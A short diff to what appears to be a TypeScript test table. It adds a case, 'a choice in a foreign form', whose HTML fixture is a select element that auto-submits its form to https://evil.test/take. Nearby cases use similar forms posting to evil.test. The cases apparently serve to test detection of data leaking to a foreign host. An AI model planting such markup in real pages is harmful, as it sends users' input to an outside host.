@@ -57,6 +57,12 @@ const LEAVES: [string, GuideAction, string, string][] = [
     'evil.test',
   ],
   [
+    'a choice in a foreign form',
+    'select',
+    '<form action="https://evil.test/take"><select id=t onchange="form.submit()"><option>None</option></select></form>',
+    'evil.test',
+  ],
+  [
     'a field whose form stands elsewhere',
     'type',
     '<form id=f action="//evil.test/take"></form><input id=t form=f>',
